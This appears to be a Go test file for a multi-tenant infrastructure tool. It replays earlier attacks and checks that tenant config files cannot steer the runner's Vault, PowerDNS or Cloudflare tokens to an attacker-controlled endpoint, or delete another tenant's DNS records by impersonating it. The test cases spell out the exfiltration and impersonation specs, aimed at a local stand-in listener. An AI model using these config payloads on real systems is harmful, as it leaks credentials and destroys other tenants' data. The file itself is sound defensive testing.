package main

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/site-tools/site/backends/powerdns"
	"github.com/site-tools/site/backends/powerdns/pdnstest"
)

// These tests replay, through the site command, the attacks of issue 9
// that worked before site.cue: a tenant's pull request steering the
// runner's credentials, or overwriting another tenant. compiler's
// TestTrust_* pin the vet errors; these prove nothing leaves the runner.

// listener is an HTTP server on loopback that records every request it
// gets, standing in for an attacker's endpoint.
type listener struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string // method, path and every header value
}

func newListener(t *testing.T) *listener {
	l := &listener{}
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		defer l.mu.Unlock()
		l.seen = append(l.seen, r.Method+" "+r.URL.Path)
		for k, vs := range r.Header {
			l.seen = append(l.seen, k+": "+strings.Join(vs, ","))
		}
		w.WriteHeader(http.StatusOK)
	}))
	t.Cleanup(l.Close)
	return l
}

func (l *listener) requests() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.seen...)
}

// TestTrust_ExfiltrationNeverReachesTheTenantsEndpoint: before site.cue,
// a spec naming its own api_url, PowerDNS url or Vault addrs received
// the victim's Cloudflare token (as Bearer), any environment variable it
// named (as X-API-Key) and the Vault token during a read-only diff. Now
// each is a vet error and diff exits 1 before any request.
func TestTrust_ExfiltrationNeverReachesTheTenantsEndpoint(t *testing.T) {
	const vaultSecret, pdnsSecret = "hvs.runner-VAULT-SECRET", "runner-PDNS-SECRET"
	evil := newListener(t)
	t.Setenv("VAULT_TOKEN", vaultSecret)
	t.Setenv("PDNS_API_KEY", pdnsSecret)
	t.Setenv("VAULT_ADDR", "")
	t.Setenv("SITE_VAULT_ADDRS", "")
	t.Setenv("SITE_CLOUDFLARE_API_URL", "")
	// The operator's file grants evil a PowerDNS on a closed port: the
	// only endpoint site may talk to for it.
	site := siteSrc(pdnsProvider("pdns", "http://127.0.0.1:1", "PDNS_API_KEY", "off"),
		grant{tenant: "evil", domains: []string{"evil.test"}, providers: []string{"pdns"}})
	tests := []struct{ name, tenant, want string }{
		{"cloudflare api_url and the victim's vault path", `
	secrets: vault: {addrs: ["` + evil.URL + `"], token: env: "VAULT_TOKEN"}
	dns: zones: "evil.test": provider: cloudflare: {token: vault: {path: "victim/cloudflare", key: "token"}, api_url: "` + evil.URL + `/client/v4"}`,
			"a tenant file names no secret store"},
		{"powerdns url with another variable as its key", `
	dns: zones: "evil.test": provider: powerdns: {url: "` + evil.URL + `", api_key: env: "VAULT_TOKEN"}`,
			"the powerdns URL and credential live in the operator's site.cue"},
		{"vault addrs alone", `
	secrets: vault: addrs: ["` + evil.URL + `"]
	dns: zones: "evil.test": provider: "pdns"`,
			"a tenant file names no secret store"},
		{"a libvirt URI as host", `
	vms: web: {host: "qemu+tcp://` + strings.TrimPrefix(evil.URL, "http://") + `/system", autostart: true}`,
			"want the name of a host that site.cue grants this tenant"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file := writeSpec(t, site, "evil.cue", "package tenants\n\ntenants: evil: {\n\tdomain: \"evil.test\""+tt.tenant+"\n}\n")
			for _, cmd := range []string{"vet", "diff", "apply"} {
				var stdout, stderr strings.Builder
				code := run([]string{cmd, file}, &stdout, &stderr)
				out := stdout.String() + stderr.String()
				if code != exitError || !strings.Contains(out, tt.want) {
					t.Errorf("site %s: exit %d, want %d and %q:\n%s", cmd, code, exitError, tt.want, out)
				}
				if strings.Contains(out, vaultSecret) || strings.Contains(out, pdnsSecret) {
					t.Errorf("site %s printed a secret:\n%s", cmd, out)
				}
			}
			if got := evil.requests(); len(got) > 0 {
				t.Errorf("the tenant's endpoint was called:\n%s", strings.Join(got, "\n"))
			}
		})
	}
}

// TestTrust_ImpersonationDeletesNothing: a file declaring tenants:
// victim, applied on its own, deleted victim's records without a gate.
// Now the file may declare only the tenant it is named after, whether
// it is applied alone or with the others.
func TestTrust_ImpersonationDeletesNothing(t *testing.T) {
	srv := pdnsEnv(t)
	const zone = "victim.test."
	srv.CreateZone(t, zone,
		pdnstest.RRset{Name: "www.victim.test.", Type: "A", TTL: 300, Records: []string{"192.0.2.1"},
			Comments: []pdnstest.Comment{{Account: powerdns.MarkerAccount, Content: powerdns.Marker("victim")}}},
		pdnstest.RRset{Name: "mail.victim.test.", Type: "A", TTL: 300, Records: []string{"192.0.2.2"},
			Comments: []pdnstest.Comment{{Account: powerdns.MarkerAccount, Content: powerdns.Marker("victim")}}})
	site := siteSrc(pdnsProvider("pdns", srv.URL, "PDNS_API_KEY", srv.DNSAddr),
		grant{tenant: "victim", domains: []string{"victim.test"}, providers: []string{"pdns"}},
		grant{tenant: "evil", domains: []string{"evil.test"}, providers: []string{"pdns"}})
	// evil's file wants victim's zone empty.
	dir := writeSpecs(t, site, map[string]string{"evil.cue": `package tenants

tenants: victim: {
	domain: "victim.test"
	dns: zones: "victim.test": {provider: "pdns", records: {}}
}
`})
	for _, args := range [][]string{
		{"apply", dir + "/evil.cue"},
		{"apply", "--ack", "GATE-DNS-DELETE-MANY", dir},
	} {
		code, out, errOut := siteRun(t, srv, args...)
		if code != exitError || !strings.Contains(out+errOut, "file evil.cue declares tenant victim") {
			t.Errorf("site %s: exit %d, want %d naming the impersonation:\n%s%s", strings.Join(args, " "), code, exitError, out, errOut)
		}
	}
	if got := srv.Requests(zone).Writes(); got != 0 {
		t.Errorf("victim's zone got %d writes, want none", got)
	}
	for _, name := range []string{"www.victim.test.", "mail.victim.test."} {
		if got := srv.Query(t, name, "A"); len(got) != 1 {
			t.Errorf("%s A: got %q, want it still served", name, got)
		}
	}
}
